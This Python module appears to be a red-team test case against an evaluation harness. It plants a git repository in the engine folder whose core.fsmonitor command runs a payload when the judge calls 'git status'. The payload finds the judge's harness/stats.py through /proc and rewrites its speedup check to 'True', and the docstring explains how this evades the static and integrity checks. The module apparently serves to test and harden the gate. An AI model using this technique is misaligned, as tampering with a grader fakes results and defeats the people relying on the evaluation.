"""Runs code in the judge's own process context, outside every worker: the engine folder is made a git repository
whose ``.git/config`` sets ``core.fsmonitor`` to a command. The gate records the engine's commit
(``harness.env.git_commit``: ``git rev-parse``, ``git status``, ``git diff`` with the engine folder as cwd) before
any stage and before it fingerprints its own files, and git takes the innermost repository's config: ``git status``
runs the command with the judge's rights. The payload finds the judge's checkout (the cwd of an ancestor process)
and makes ``harness/stats.py`` call every candidate faster; the static stage never looked inside ``.git``, and the
integrity check took the edited file as the judge's own."""

import shlex
import subprocess
import sys
from pathlib import Path

DESCRIPTION = "engine/.git/config: core.fsmonitor runs a script that rewrites the judge's harness/stats.py"
CLASS = "in-process"
STAGE = "static"
REASON = "a git repository inside the engine folder"
OLD_GATE = "accepted (the judge's stats.py rewritten by git status in harness.env before the first stage)"

PAYLOAD = '''
import os
import pathlib

pid = os.getppid()
for _ in range(8):  # git, then the judge (or a shell between them)
    try:
        cwd = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
        stats = cwd / "harness" / "stats.py"
        if stats.is_file():
            s = stats.read_text()
            stats.write_text(s.replace("speedup - 1.0 > noise and not regressed and every_round", "True"))
            break
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        break
'''


def apply(engine_dir: Path) -> None:
    """Make the engine folder a repository with one commit and the fsmonitor command in its config."""
    git = ["git", "-C", str(engine_dir), "-c", "user.email=r2@example.invalid", "-c", "user.name=r2"]
    subprocess.run(["git", "init", "-q", str(engine_dir)], check=True)
    subprocess.run(git + ["commit", "-q", "--allow-empty", "-m", "engine"], check=True)
    payload = engine_dir / ".git" / "fsmonitor_payload.py"
    payload.write_text(PAYLOAD)
    subprocess.run(git + ["config", "core.fsmonitor", f"{shlex.quote(sys.executable)} {shlex.quote(str(payload))}; false"],
                   check=True)
